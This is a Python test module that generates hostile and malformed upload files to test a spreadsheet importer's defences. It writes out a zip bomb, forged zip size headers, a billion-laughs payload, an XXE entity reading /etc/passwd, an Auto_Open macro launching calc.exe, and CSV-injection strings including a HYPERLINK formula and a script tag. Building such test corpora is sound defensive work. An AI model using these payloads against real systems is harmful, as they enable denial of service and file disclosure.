"""The hostile-upload corpus: broken, disguised and hostile files, generated at test time (no binaries in the repo).

Each `Case` (tests/corpus_case.py) makes its file's bytes and says what the user must read. tests/test_corpus.py
uploads every file into a fresh store and into one that already holds data. To look at the files:

    python tests/corpus.py OUTDIR

The builders below write the formats by hand (xlsx parts, OpenDocument, OLE2 compound files with BIFF8 records)
so that a case can hold exactly the oddity it stands for: a DOCTYPE, a lying zip header, an encrypted package.
"""
from __future__ import annotations

import io
import struct
import sys
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

if __package__ in (None, ""):  # run as a script: make `tests` and the project importable
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from tests.corpus_case import Case  # noqa: E402

ORG = "Corpus"
# An own layout the harmonisation understands without questions (accept_suggestions=True takes the rest).
HEADER = ["Dossiernummer", "Datum aanmelding", "Hulpvragen"]
ROWS = [HEADER, ["K1", "3-2-2024", "schulden"], ["K2", "5-3-2024", "taalles"], ["K3", "1-4-2024", "opvoeding"]]

# -- xlsx, written part by part ----------------------------------------------------------------------
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PROLOG = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def column_letters(n: int) -> str:
    out = ""
    while n:
        n, r = divmod(n - 1, 26)
        out = chr(65 + r) + out
    return out


def cell_xml(ref: str, value) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def rows_xml(rows: list[list]) -> str:
    out = []
    for i, row in enumerate(rows, start=1):
        cells = "".join(cell_xml(f"{column_letters(j)}{i}", v) for j, v in enumerate(row, start=1))
        out.append(f'<row r="{i}">{cells}</row>')
    return "".join(out)


def sheet_xml(body: str, prolog: str = _PROLOG, dimension: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f"{prolog}<worksheet {_NS}>{dim}<sheetData>{body}</sheetData></worksheet>"


def xlsx(sheets: list[tuple[str, str]], *, states: dict[str, str] | None = None, shared: str | None = None,
         extra: dict[str, bytes] | None = None, macro: bool = False) -> bytes:
    """A workbook from (name, sheet XML) pairs; `states` hides sheets, `extra` adds parts as they are."""
    states = states or {}
    main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    overrides = f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>' + "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1))
    rels = "".join(f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                   for i in range(1, len(sheets) + 1))
    if shared is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" '
                      'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
        rels += f'<Relationship Id="rId{len(sheets) + 1}" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
    if macro:
        overrides += '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        rels += (f'<Relationship Id="rId{len(sheets) + 2}" Type="http://schemas.microsoft.com/office/2006/relationships/'
                 'vbaProject" Target="vbaProject.bin"/>')
    entries = "".join(
        f'<sheet name="{escape(name)}" sheetId="{i}" '
        + (f'state="{states[name]}" ' if name in states else "") + f'r:id="rId{i}"/>'
        for i, (name, _) in enumerate(sheets, start=1))
    parts = {
        "[Content_Types].xml": f'{_PROLOG}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                               '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                               'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                               f"{overrides}</Types>",
        "_rels/.rels": f'{_PROLOG}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{_PROLOG}<workbook {_NS} xmlns:r="{_REL}"><sheets>{entries}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{_PROLOG}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                                      f'relationships">{rels}</Relationships>',
    }
    for i, (_, xml) in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            zf.writestr(name, content)
        for name, content in (extra or {}).items():
            zf.writestr(name, content)
    return buffer.getvalue()


def own_layout_xlsx(rows: list[list] = ROWS, **kw) -> bytes:
    return xlsx([("Registratie", sheet_xml(rows_xml(rows)))], **kw)


# -- OpenDocument ----------------------------------------------------------------------------------------
_ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"


def ods(table_xml: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mimetype", _ODS_MIME, compress_type=zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml",
                    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                    'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-'
                    f'path="/" manifest:media-type="{_ODS_MIME}"/><manifest:file-entry manifest:full-path='
                    '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
        zf.writestr("content.xml",
                    '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:'
                    'tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
                    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
                    f"<office:spreadsheet>{table_xml}</office:spreadsheet></office:body></office:document-content>")
    return buffer.getvalue()


def ods_table(name: str, rows: list[list]) -> str:
    def cell(v):
        return (f'<table:table-cell office:value-type="string"><text:p>{escape(str(v))}</text:p></table:table-cell>'
                if v not in (None, "") else "<table:table-cell/>")
    body = "".join("<table:table-row>" + "".join(cell(v) for v in row) + "</table:table-row>" for row in rows)
    return f'<table:table table:name="{escape(name)}">{body}</table:table>'


# -- OLE2 compound files and BIFF8 (legacy .xls) ----------------------------------------------------------
_FREE, _END, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def compound_file(streams: list[tuple[str, bytes]]) -> bytes:
    """An OLE2 compound file (version 3, 512-byte sectors). Streams are padded to the 4096-byte cutoff so that
    none needs the mini stream, as Excel does with its Workbook stream."""
    sector = 512
    streams = [(n, d + b"\0" * max(0, 4096 - len(d))) for n, d in streams]

    def n_sectors(n):
        return (n + sector - 1) // sector

    dir_secs = n_sectors((len(streams) + 1) * 128)
    data_secs = sum(n_sectors(len(d)) for _, d in streams)
    fat_secs = 1
    while fat_secs * 128 < fat_secs + dir_secs + data_secs:
        fat_secs += 1
    fat = [_FATSECT] * fat_secs
    dir_start = len(fat)
    fat += [dir_start + i + 1 for i in range(dir_secs - 1)] + [_END]
    starts, body = [], b""
    for _, d in streams:
        start, n = len(fat), n_sectors(len(d))
        starts.append(start)
        fat += [start + i + 1 for i in range(n - 1)] + [_END]
        body += d.ljust(n * sector, b"\0")
    fat += [_FREE] * (fat_secs * 128 - len(fat))

    def entry(name, kind, child, right, start, size):
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, _FREE, right, child)
                + b"\0" * 36 + struct.pack("<IQ", start, size))

    directory = entry("Root Entry", 5, 1 if streams else _FREE, _FREE, _END, 0)
    for i, ((name, d), start) in enumerate(zip(streams, starts)):
        directory += entry(name, 2, _FREE, i + 2 if i + 1 < len(streams) else _FREE, start, len(d))
    header = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_secs, dir_start, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<109I", *(list(range(fat_secs)) + [_FREE] * (109 - fat_secs))))
    fat_bytes = b"".join(struct.pack("<128I", *fat[i * 128:(i + 1) * 128]) for i in range(fat_secs))
    return header + fat_bytes + directory.ljust(dir_secs * sector, b"\0") + body


def _record(rtype: int, payload: bytes = b"") -> bytes:
    return struct.pack("<HH", rtype, len(payload)) + payload


def biff8(sheets: list[tuple[str, list[list]]], *, password: bool = False) -> bytes:
    """A BIFF8 Workbook stream: shared strings, numbers; with `password`, a FILEPASS record as Excel writes
    for a workbook encrypted with a password to open."""
    strings: list[str] = []
    index: dict[str, int] = {}
    for _, rows in sheets:
        for row in rows:
            for v in row:
                if isinstance(v, str) and v not in index:
                    index[v] = len(strings)
                    strings.append(v)

    def unicode_string(s, short=False):
        return struct.pack("<B" if short else "<H", len(s)) + b"\x01" + s.encode("utf-16-le")

    bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)
    bodies = []
    for _, rows in sheets:
        cells = b""
        for r, row in enumerate(rows):
            for c, v in enumerate(row):
                if v is None or v == "":
                    continue
                cells += (_record(0x00FD, struct.pack("<HHHI", r, c, 0, index[v])) if isinstance(v, str)
                          else _record(0x0203, struct.pack("<HHHd", r, c, 0, float(v))))
        width = max((len(r) for r in rows), default=0)
        bodies.append(_record(0x0809, bof[:2] + struct.pack("<H", 0x0010) + bof[4:])
                      + _record(0x0200, struct.pack("<IIHHH", 0, len(rows), 0, width, 0)) + cells + _record(0x000A))

    def globals_(offsets):
        out = _record(0x0809, bof)
        if password:
            out += _record(0x002F, struct.pack("<HHH", 1, 1, 2) + b"\x11" * 48)  # RC4 encryption header
        out += _record(0x0042, struct.pack("<H", 1200))
        for (name, _), offset in zip(sheets, offsets):
            out += _record(0x0085, struct.pack("<IBB", offset, 0, 0) + unicode_string(name, short=True))
        sst = struct.pack("<II", len(strings), len(strings)) + b"".join(unicode_string(s) for s in strings)
        return out + _record(0x00FC, sst) + _record(0x000A)

    position = len(globals_([0] * len(sheets)))
    offsets = []
    for b in bodies:
        offsets.append(position)
        position += len(b)
    return globals_(offsets) + b"".join(bodies)


# -- the cases' makers -------------------------------------------------------------------------------------
def _csv(rows: list[list], sep: str = ";") -> str:
    def field(v):
        v = str(v)
        return '"' + v.replace('"', '""') + '"' if any(ch in v for ch in (sep, '"', "\n")) else v
    return "\r\n".join(sep.join(field(v) for v in row) for row in rows) + "\r\n"


def truncated(_: Path) -> bytes:
    data = own_layout_xlsx()
    return data[:len(data) // 2]


def _all_but_the_sheet(zf: zipfile.ZipFile) -> bytes:
    """Copy the own-layout workbook into `zf` except its sheet, whose XML is returned to be written padded."""
    base = zipfile.ZipFile(io.BytesIO(own_layout_xlsx()))
    for info in base.infolist():
        if info.filename != "xl/worksheets/sheet1.xml":
            zf.writestr(info.filename, base.read(info))
    return base.read("xl/worksheets/sheet1.xml")


def zip_bomb(_: Path) -> bytes:
    """A real-looking sheet padded with 60 MB of spaces: about 60 KB on disk, a ratio near 1000:1."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        xml = _all_but_the_sheet(zf)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            cut = xml.index(b"<sheetData>")
            fh.write(xml[:cut])
            pad = b" " * (1024 * 1024)
            for _ in range(60):
                fh.write(pad)
            fh.write(xml[cut:])
    return buffer.getvalue()


def lying_header(_: Path) -> bytes:
    """A 6 MB sheet whose zip headers claim 600 bytes: the ratio check sees nothing, the measurement does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        xml = _all_but_the_sheet(zf)
        cut = xml.index(b"<sheetData>")
        zf.writestr("xl/worksheets/sheet1.xml", xml[:cut] + b" " * (6 * 1024 * 1024) + xml[cut:])
    data = bytearray(buffer.getvalue())
    name = b"xl/worksheets/sheet1.xml"
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            name_at = pos + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                data[pos + size_at:pos + size_at + 4] = struct.pack("<I", 600)
            pos += 4
    return bytes(data)


def many_members(_: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        base = zipfile.ZipFile(io.BytesIO(own_layout_xlsx()))
        for info in base.infolist():
            zf.writestr(info.filename, base.read(info))
        for i in range(6000):
            zf.writestr(f"xl/media/leeg{i}.txt", b"")
    return buffer.getvalue()


def billion_laughs(_: Path) -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    prolog = f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [{entities}]>'
    body = rows_xml([HEADER]) + '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return xlsx([("Registratie", sheet_xml(body, prolog=prolog))])


def xxe(_: Path) -> bytes:
    shared = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
              f'<sst {_NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
    body = rows_xml([HEADER]) + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
    return xlsx([("Registratie", sheet_xml(body))], shared=shared)


def encrypted_package(_: Path) -> bytes:
    """What Excel saves for an .xlsx with a password to open: an OLE2 file with EncryptionInfo and
    EncryptedPackage (the zip, AES-encrypted) instead of a zip."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8"?><encryption/>'
    package = struct.pack("<Q", 2000) + bytes((i * 37) % 256 for i in range(4096))
    return compound_file([("EncryptionInfo", info), ("EncryptedPackage", package)])


def legacy_xls(_: Path) -> bytes:
    return compound_file([("Workbook", biff8([("Registratie", ROWS)]))])


def far_cell(_: Path) -> bytes:
    body = rows_xml(ROWS) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return xlsx([("Registratie", sheet_xml(body))])


def huge_dimension(_: Path) -> bytes:
    return xlsx([("Registratie", sheet_xml(rows_xml(ROWS), dimension="A1:XFD1048576"))])


def ods_repeated(_: Path) -> bytes:
    cell = ('<table:table-cell office:value-type="string" table:number-columns-repeated="1000"><text:p>x</text:p>'
            "</table:table-cell>")
    return ods(f'<table:table table:name="G"><table:table-row table:number-rows-repeated="100000">{cell}'
               "</table:table-row></table:table>")


def formulas(_: Path) -> bytes:
    """=1+1 with its cached 2, and a formula without a cached value (as scripts write them)."""
    body = rows_xml([HEADER + ["Aantal"]]) + (
        '<row r="2"><c r="A2" t="inlineStr"><is><t>K1</t></is></c><c r="B2" t="inlineStr"><is><t>3-2-2024</t></is>'
        '</c><c r="C2" t="inlineStr"><is><t>schulden</t></is></c><c r="D2"><f>1+1</f><v>2</v></c></row>'
        '<row r="3"><c r="A3" t="inlineStr"><is><t>K2</t></is></c><c r="B3" t="inlineStr"><is><t>5-3-2024</t></is>'
        '</c><c r="C3" t="inlineStr"><is><t>taalles</t></is></c><c r="D3"><f>SUM(D2,40)</f></c></row>')
    return xlsx([("Registratie", sheet_xml(body))])


def macro_workbook(_: Path) -> bytes:
    vba = compound_file([("dir", b"\x01" * 64), ("Module1", b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n'
                                                          b'Shell "calc.exe"\r\nEnd Sub\r\n')])
    return own_layout_xlsx(macro=True, extra={"xl/vbaProject.bin": vba})


def hidden_sheets(_: Path) -> bytes:
    sheet = sheet_xml(rows_xml(ROWS))
    return xlsx([("Registratie", sheet), ("Lijsten", sheet)], states={"Registratie": "hidden", "Lijsten": "veryHidden"})


def empty_rows(_: Path) -> bytes:
    blanks = "".join(f'<row r="{r}"><c r="A{r}" s="0"/><c r="B{r}" s="0"/><c r="C{r}" s="0"/></row>'
                     for r in range(len(ROWS) + 1, len(ROWS) + 10_001))
    return xlsx([("Registratie", sheet_xml(rows_xml(ROWS) + blanks, dimension=f"A1:C{len(ROWS) + 10_000}"))])


def error_values(_: Path) -> bytes:
    errors = ["#DIV/0!", "#N/A", "#NAME?", "#REF!", "#VALUE!"]  # stored in English whatever the language
    body = "".join(f'<row r="{r}">' + "".join(f'<c r="{column_letters(c)}{r}" t="e"><v>{errors[(r + c) % 5]}</v></c>'
                                              for c in range(1, 4)) + "</row>" for r in range(1, 6))
    return xlsx([("Registratie", sheet_xml(body))])


def registratieformat_without_families(_: Path) -> bytes:
    from openpyxl import load_workbook

    from gezinsmonitor.template import write_template
    buffer = io.BytesIO()
    write_template(buffer)
    wb = load_workbook(io.BytesIO(buffer.getvalue()))
    del wb["Gezinnen"]
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def over_size_limit(_: Path) -> bytes:
    from gezinsmonitor import config
    line = b"K1;3-2-2024;schulden\r\n"
    return b";".join(h.encode() for h in HEADER) + b"\r\n" + line * (config.MAX_UPLOAD_MB * 1024 * 1024 // len(line) + 10)


def word_document(_: Path) -> bytes:
    return compound_file([("WordDocument", b"\xEC\xA5" + b"\0" * 600), ("1Table", b"\0" * 600)])


def html_table(_: Path) -> bytes:
    cells = "".join("<tr>" + "".join(f"<td>{escape(str(v))}</td>" for v in row) + "</tr>" for row in ROWS)
    return (f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body>'
            f"<table>{cells}</table></body></html>").encode()


def spreadsheet_2003(_: Path) -> bytes:
    return ('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com'
            ':office:spreadsheet"><Worksheet ss:Name="Blad1"><Table><Row><Cell><Data ss:Type="String">Dossier</Data>'
            "</Cell></Row></Table></Worksheet></Workbook>").encode()


def pdf(_: Path) -> bytes:
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> "
            b"endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def png(_: Path) -> bytes:
    import zlib
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def zip_without_workbook(_: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("registratie/lees_mij.txt", "De registratie staat in de bijlage.")
        zf.writestr("registratie/foto.png", png(Path()))
    return buffer.getvalue()


# Free-text help requests are split on ";" and "," by the harmonisation: the formula avoids both to stay one label.
FORMULA_LABEL = '=HYPERLINK("http://voorbeeld.invalid/?d="&A2)'
SCRIPT_LABEL = "<script>alert(1)</script>"

CASES: list[Case] = [
    Case("leeg.xlsx", lambda _: b"", "leeg (0 bytes)", why="an empty upload (a failed download)"),
    Case("een_byte.xlsx", lambda _: b"P", "tekstbestand zonder herkenbare kolommen", why="a 1-byte file"),
    Case("tekst_als_xlsx.xlsx", lambda _: "Beste collega,\nhierbij de cijfers van dit jaar.\nGroet".encode(),
         "tekstbestand zonder herkenbare kolommen", why="a text file named .xlsx"),
    Case("document_als_xlsx.xlsx", pdf, "PDF-document", why="a PDF named .xlsx"),
    Case("schermafdruk.xlsx", png, "afbeelding", why="a PNG screenshot named .xlsx"),
    Case("html_tabel.xls", html_table, "webpagina (HTML)", why="an HTML table saved as .xls by a web export"),
    Case("xml_spreadsheet_2003.xls", spreadsheet_2003, "XML-bestand", why="Excel 2003 XML spreadsheet"),
    Case("afgebroken.xlsx", truncated, "onvolledig of beschadigd", why="an xlsx cut off halfway (truncated zip)"),
    Case("zip_zonder_werkmap.xlsx", zip_without_workbook, "zip-archief", why="a zip archive with no workbook in it"),
    Case("word_document.xls", word_document, "geen Excel-werkmap", why="an OLE2 Word document named .xls"),
    Case("zipbom.xlsx", zip_bomb, "onnatuurlijk sterk samengeperst",
         why="zip bomb: 60 MB of padding in a 60 KB file (ratio ~1000:1)"),
    Case("liegende_zipkop.xlsx", lying_header, "onnatuurlijk sterk samengeperst",
         why="zip headers that understate a member's size (measured while streaming, not trusted)"),
    Case("veel_onderdelen.xlsx", many_members, "onnatuurlijk veel onderdelen", why="a zip with 6,000 members"),
    Case("groot_bereik.xlsx", huge_dimension, "veel te groot bereik",
         why="a declared range A1:XFD1048576 (17 billion cells)"),
    Case("verre_cel.xlsx", far_cell, "veel te groot bereik",
         why="one cell at XFD1048576 and no declared range (the reader would fill the whole range)"),
    Case("herhaalde_cellen.ods", ods_repeated, "veel te groot bereik",
         why="OpenDocument rows and cells repeated 100,000 × 1,000 times in an 800-byte file"),
    Case("billion_laughs.xlsx", billion_laughs, "DOCTYPE of ENTITY",
         why="entity expansion (billion laughs) in a sheet's XML"),
    Case("xxe.xlsx", xxe, "DOCTYPE of ENTITY", why="external entity (XXE) reading /etc/passwd in sharedStrings.xml"),
    Case("versleuteld.xlsx", encrypted_package, "beveiligd met een wachtwoord",
         why="an .xlsx encrypted with a password to open (OLE2 EncryptedPackage)"),
    Case("versleuteld_oud.xls", lambda _: compound_file([("Workbook", biff8([("Registratie", ROWS)], password=True))]),
         "beveiligd met een wachtwoord", why="a legacy .xls with a password to open (BIFF FILEPASS)"),
    Case("oud_formaat.xls", legacy_xls, "Ingelezen: 3 gezinnen", stored=True, organisation=ORG,
         why="a legacy Excel 97-2003 .xls (BIFF8), read by calamine"),
    Case("opendocument.ods", lambda _: ods(ods_table("Registratie", ROWS)), "Ingelezen: 3 gezinnen", stored=True,
         organisation=ORG, why="a LibreOffice .ods"),
    Case("macro.xlsm", macro_workbook, "macro's", stored=True, organisation=ORG,
         why="an .xlsm with a vbaProject.bin (Auto_Open): data read, macro never run"),
    Case("formules.xlsx", formulas, "formules zonder opgeslagen uitkomst", stored=True, organisation=ORG,
         why="formulas: read as their cached values, never evaluated"),
    Case("csv_bom_puntkomma.csv", lambda _: b"\xef\xbb\xbf" + _csv(ROWS, ";").encode(), "Ingelezen: 3 gezinnen",
         stored=True, organisation=ORG, why="CSV as Dutch Excel writes it: UTF-8 with BOM, ';'"),
    Case("csv_komma.csv", lambda _: _csv(ROWS, ",").encode(), "Ingelezen: 3 gezinnen", stored=True, organisation=ORG,
         why="CSV with ',' and no BOM"),
    Case("csv_cp1252.csv", lambda _: _csv(ROWS + [["K4", "2-5-2024", "geldzorgen, één maaltijd per dag"]],
                                          ";").encode("cp1252"),
         "Ingelezen: 4 gezinnen", stored=True, organisation=ORG, why="CSV in Windows-1252 (ë, é), quoted field"),
    Case("csv_formules.csv", lambda _: _csv(ROWS + [["K4", "2-5-2024", FORMULA_LABEL], ["K5", "3-5-2024", "@SUM(1+1)"],
                                                    ["K6", "4-5-2024", SCRIPT_LABEL]]).encode(),
         "Ingelezen: 6 gezinnen", stored=True, organisation=ORG,
         why="CSV injection: =HYPERLINK…, @SUM, <script> as help requests, stored and exported as plain text"),
    Case("csv_als_xlsx.xlsx", lambda _: _csv(ROWS).encode(), "Ingelezen: 3 gezinnen", stored=True, organisation=ORG,
         why="a CSV named .xlsx: judged by content"),
    Case("verborgen_bladen.xlsx", hidden_sheets, "geen zichtbare bladen", why="a workbook with only hidden sheets"),
    Case("lege_rijen.xlsx", empty_rows, "Ingelezen: 3 gezinnen", stored=True, organisation=ORG,
         why="a sheet with 10,000 empty formatted rows below the data"),
    Case("foutwaarden.xlsx", error_values, "Geen gezinnen gevonden", organisation=ORG,
         why="a workbook whose every cell is an error value (#DIV/0!, #N/A …)"),
    Case("registratieformat_zonder_gezinnen.xlsx", registratieformat_without_families, "Blad Gezinnen ontbreekt",
         why="the registratieformat with its required sheet Gezinnen deleted"),
    Case("te_groot.csv", over_size_limit, "groter dan 50 MB", why="a file over the upload limit"),
]


def write_corpus(directory: Path, cases: list[Case] = CASES) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for case in cases:
        path = directory / case.name
        path.write_bytes(case.make(directory))
        paths.append(path)
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("Gebruik: python tests/corpus.py UITVOERMAP")
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
    from tests.corpus_identifiers import IDENTIFIER_CASES
    for path in write_corpus(Path(sys.argv[1]), CASES + IDENTIFIER_CASES):
        print(f"{path.stat().st_size:>12,}  {path}")
